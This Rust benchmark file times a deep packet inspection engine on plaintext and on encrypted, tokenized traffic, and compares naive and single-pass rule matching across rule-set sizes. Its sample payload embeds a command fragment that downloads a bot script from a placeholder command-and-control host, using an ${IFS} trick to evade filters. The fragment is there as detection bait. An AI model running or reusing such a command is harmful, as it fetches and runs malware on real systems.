//! E-M4 bench — plaintext vs encrypted DPI inspection cost per payload,
//! plus the fast-path sweep: naive per-rule scans vs the single-pass
//! engines (Aho–Corasick / token index / batched) across rule-set sizes.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use xlf_core::dpi::{default_rules, match_batch_sharded, EncryptedDpi, PlaintextDpi, Rule};
use xlf_lwcrypto::searchable::{Token, Tokenizer};
use xlf_simnet::SimTime;

fn bench_dpi(c: &mut Criterion) {
    let payload = b"POST /telemetry temperature=71.2 humidity=40 wget${IFS}http://cnc.evil/bot.sh trailer bytes";
    let mut group = c.benchmark_group("dpi_inspection");
    group.sample_size(20);
    group.throughput(Throughput::Bytes(payload.len() as u64));

    let plain = PlaintextDpi::new(default_rules());
    group.bench_function("plaintext", |b| {
        b.iter(|| std::hint::black_box(plain.inspect(payload)));
    });

    let endpoint = Tokenizer::new(b"bench session").expect("tokenizer");
    let mut enc = EncryptedDpi::new(default_rules());
    enc.bind_session(&endpoint);
    group.bench_function("encrypted_tokenize_and_match", |b| {
        b.iter(|| {
            let tokens = endpoint.tokenize(payload);
            std::hint::black_box(enc.inspect("dev", &tokens, SimTime::ZERO))
        });
    });
    let tokens = endpoint.tokenize(payload);
    group.bench_function("encrypted_match_only", |b| {
        b.iter(|| std::hint::black_box(enc.inspect("dev", &tokens, SimTime::ZERO)));
    });
    group.finish();
}

fn sweep_rules(n: usize) -> Vec<Rule> {
    (0..n)
        .map(|i| Rule {
            name: format!("sig-{i:04}"),
            keyword: format!("xlf:{i:04x}:c2-marker").into_bytes(),
        })
        .collect()
}

fn sweep_payload(rng: &mut StdRng, size: usize, rules: &[Rule]) -> Vec<u8> {
    let mut payload: Vec<u8> = (0..size).map(|_| rng.gen_range(0x20u8..0x7f)).collect();
    let keyword = &rules[rules.len() / 2].keyword;
    payload[size / 2..size / 2 + keyword.len()].copy_from_slice(keyword);
    payload
}

/// Rule-set size sweep at a fixed 1 KiB payload: the per-rule scans
/// degrade linearly in rule count, the single-pass engines stay flat.
fn bench_dpi_ruleset_sweep(c: &mut Criterion) {
    const PAYLOAD_SIZE: usize = 1024;
    const BATCH: usize = 16;
    let mut rng = StdRng::seed_from_u64(0x517f_0001);
    let mut group = c.benchmark_group("dpi_ruleset_sweep");
    group.sample_size(10);
    for &rule_count in &[8usize, 64, 256, 1024] {
        let rules = sweep_rules(rule_count);
        let payloads: Vec<Vec<u8>> = (0..BATCH)
            .map(|_| sweep_payload(&mut rng, PAYLOAD_SIZE, &rules))
            .collect();
        let refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();
        group.throughput(Throughput::Bytes((PAYLOAD_SIZE * BATCH) as u64));

        let plain = PlaintextDpi::new(rules.clone());
        group.bench_with_input(
            BenchmarkId::new("plaintext_naive", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    for p in &refs {
                        std::hint::black_box(plain.inspect_naive(p));
                    }
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("plaintext_automaton", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    for p in &refs {
                        std::hint::black_box(plain.inspect(p));
                    }
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("plaintext_batched", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| std::hint::black_box(plain.inspect_batch(&refs)));
            },
        );

        let endpoint = Tokenizer::new(b"bench sweep").expect("tokenizer");
        let streams: Vec<Vec<Token>> = refs.iter().map(|p| endpoint.tokenize(p)).collect();
        let mut enc_naive = EncryptedDpi::new(rules.clone()).with_naive_matching(true);
        enc_naive.bind_session(&endpoint);
        let mut enc_indexed = EncryptedDpi::new(rules.clone());
        enc_indexed.bind_session(&endpoint);
        group.bench_with_input(
            BenchmarkId::new("encrypted_naive", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    for t in &streams {
                        std::hint::black_box(enc_naive.match_stream(t));
                    }
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("encrypted_token_index", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| {
                    std::hint::black_box(enc_indexed.inspect_batch("dev", &streams, SimTime::ZERO))
                });
            },
        );
        group.bench_with_input(
            BenchmarkId::new("encrypted_index_sharded", rule_count),
            &rule_count,
            |b, _| {
                b.iter(|| std::hint::black_box(match_batch_sharded(&enc_indexed, &streams, 4)));
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench_dpi, bench_dpi_ruleset_sweep);
criterion_main!(benches);
